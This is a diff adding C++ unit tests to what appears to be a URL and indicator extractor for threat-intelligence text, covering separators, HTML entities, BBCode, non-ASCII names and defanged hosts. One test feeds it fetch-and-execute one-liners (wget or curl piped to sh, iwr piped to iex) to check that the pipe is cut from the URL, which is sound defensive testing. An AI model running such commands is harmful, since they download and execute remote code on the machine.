@@ -209,6 +209,94 @@ TEST(UrlPrecision, ListsWithoutSpacesGiveEveryUrl) {
     }
 }
 
+TEST(UrlPrecision, ListsWithoutSpacesAfterAPathGiveEveryUrl) {
+    // A quoted list (PowerShell, Python), or URLs joined by "," or ";" after
+    // a path: each item that starts with a scheme is a URL of its own.
+    EXPECT_EQ(urls("$u = @('http://a1.example.com/1','http://a2.example.com/2')"),
+              (V{"http://a1.example.com/1", "http://a2.example.com/2"}));
+    EXPECT_EQ(urls("http://a.example.com/x,http://b.example.com/y;https://c.example.com/z,ftp://d.example.com/w"),
+              (V{"http://a.example.com/x", "http://b.example.com/y", "https://c.example.com/z", "ftp://d.example.com/w"}));
+    EXPECT_EQ(refanged("hxxp://a[.]com/x,hxxps[:]//b[.]net/y evil[.]com/a;http://plain.example/b"),
+              (V{"http://a.com/x", "https://b.net/y", "http://evil.com/a", "http://plain.example/b"}));
+    // Without a scheme and separator after it, the byte stays in the path.
+    EXPECT_EQ(urls("http://x.example/a,b;c|d http://x.example/p;http http://x.example/q,https:// "
+                   "http://x.example/?u=http://y.example/a http://x.example/r,file__name"),
+              (V{"http://x.example/a,b;c|d", "http://x.example/p;http", "http://x.example/q,https://",
+                 "http://x.example/?u=http://y.example/a", "http://x.example/r,file__name"}));
+    for (std::size_t piece : {1u, 3u}) {
+        EXPECT_EQ(values_of(scan_pieces("x ['http://a.example/1','http://b.example/2']", options_for({Type::url}), piece),
+                            Type::url),
+                  (V{"http://a.example/1", "http://b.example/2"}));
+    }
+}
+
+TEST(UrlPrecision, PipeToAnInterpreterIsNoPartOfTheUrl) {
+    // Shell and PowerShell one-liners pipe the download into an interpreter.
+    EXPECT_EQ(urls("wget -q -O- http://91.215.85.17/m.sh|sh; iwr -useb http://45.77.12.9/s.ps1|iex "
+                   "(curl -s http://x.example/i.sh|BASH) \"http://x.example/p|python3\" http://x.example/q|sh&"),
+              (V{"http://91.215.85.17/m.sh", "http://45.77.12.9/s.ps1", "http://x.example/i.sh", "http://x.example/p",
+                 "http://x.example/q"}));
+    // Any other "|" stays.
+    EXPECT_EQ(urls("http://x.example/a|b http://x.example/?q=sh|shell http://x.example/a|sh.txt http://x.example/b|sh/c"),
+              (V{"http://x.example/a|b", "http://x.example/?q=sh|shell", "http://x.example/a|sh.txt", "http://x.example/b|sh/c"}));
+    // --open keeps the text as written.
+    Options open = options_for({Type::url});
+    open.open_punctuation = true;
+    EXPECT_EQ(values_of(scan_pieces("curl http://x.example/i.sh|sh", open), Type::url), V{"http://x.example/i.sh|sh"});
+}
+
+TEST(UrlPrecision, HtmlEscapedMarkupIsNoPartOfTheUrl) {
+    // Text copied from HTML source or an RSS feed: the character references
+    // of '"', '<' and '>' end a URL as those bytes do.
+    EXPECT_EQ(urls("&lt;a href=&quot;https://a.example/x?b=1&amp;c=2&quot;&gt;go&lt;/a&gt; "
+                   "&lt;https://b.example/y&gt; &#34;https://c.example/z&#34; https://d.example&GT;"),
+              (V{"https://a.example/x?b=1&amp;c=2", "https://b.example/y", "https://c.example/z", "https://d.example"}));
+    // The quote's reference ends it only where the URL ends.
+    EXPECT_EQ(urls("&#39;https://e.example/p&#39;. https://f.example/?q=O&#39;Brien https://g.example/a&apos;)"),
+              (V{"https://e.example/p", "https://f.example/?q=O&#39;Brien", "https://g.example/a"}));
+    // Other references and keys stay.
+    EXPECT_EQ(urls("https://h.example/?a=1&gt=2 https://i.example/?x=&amp;y https://j.example/a;b"),
+              (V{"https://h.example/?a=1&gt=2", "https://i.example/?x=&amp;y", "https://j.example/a;b"}));
+}
+
+TEST(UrlPrecision, BbcodeClosingTagIsNoPartOfTheUrl) {
+    EXPECT_EQ(urls("[url]http://a.example/b[/url] [img]https://c.example/d.png[/IMG] [url=http://e.example/f]x[/url]"),
+              (V{"http://a.example/b", "https://c.example/d.png", "http://e.example/f"}));
+    // Brackets in a query and the defanged slash stay.
+    EXPECT_EQ(refanged("http://g.example/?a[]=1&f[name]=x hxxp://h[.]example[/]i"),
+              (V{"http://g.example/?a[]=1&f[name]=x", "http://h.example/i"}));
+}
+
+TEST(UrlPrecision, SpaceAfterTheSeparatorNeedsAPlausibleHost) {
+    // Prose that names protocols is no URL.
+    EXPECT_EQ(urls("Protocols http:// and https:// are supported, as is ftp:// (see docs) or hxxp:// [x]"), V{});
+    // A defang gap before a real host stays, so do hosts without a gap.
+    EXPECT_EQ(refanged("hxxp:// evil[.]example[.]com/a and http:// 198.51.100.7/b and hxxps:// ( evil.example ) and "
+                       "http://intranet/x"),
+              (V{"http://evil.example.com/a", "http://198.51.100.7/b", "https://evil.example", "http://intranet/x"}));
+}
+
+TEST(UrlPrecision, NoUrlFromAPieceOfANameWithANonAsciiLetter) {
+    // A byte >= 0x80 ends a URL. Glued to a letter outside ASCII, what is
+    // left is a piece of another name: "münchen[.]de" holds no "nchen[.]de",
+    // the Cyrillic "аpple[.]com" no "pple[.]com", "http://münchen.de/x" no
+    // "http://m".
+    const std::string pieces_of_names =
+        "münchen[.]de/x straße[.]com аpple[.]com jöhn\\.example\\.com http://münchen.de/x http://straße.com/f "
+        "hxxp://ex[.]straße.com";
+    // After a no-break space, a CJK character or "«", and where a letter
+    // cuts the path or follows the URL as punctuation, the URL stays.
+    const std::string kept =
+        "\xC2\xA0" "a[.]example 联系b[.]example «c[.]example» http://d.example/münchen “http://e.example” http://f.example«";
+    for (std::size_t piece : {0u, 1u, 3u}) {
+        EXPECT_EQ(values_of(scan_pieces(pieces_of_names, options_for({Type::url}), piece), Type::url), V{}) << piece;
+        EXPECT_EQ(values_of(scan_pieces(kept, options_for({Type::url}), piece), Type::url),
+                  (V{"a[.]example", "b[.]example", "c[.]example", "http://d.example/m", "http://e.example",
+                     "http://f.example"}))
+            << piece;
+    }
+}
+
 TEST(UrlPrecision, Base64LastGroupAndStubs) {
     // "...Y29tba": the last group's unused bits are not zero, so it is no
     // encoder's output: "http://example.com", not "http://example.comm".
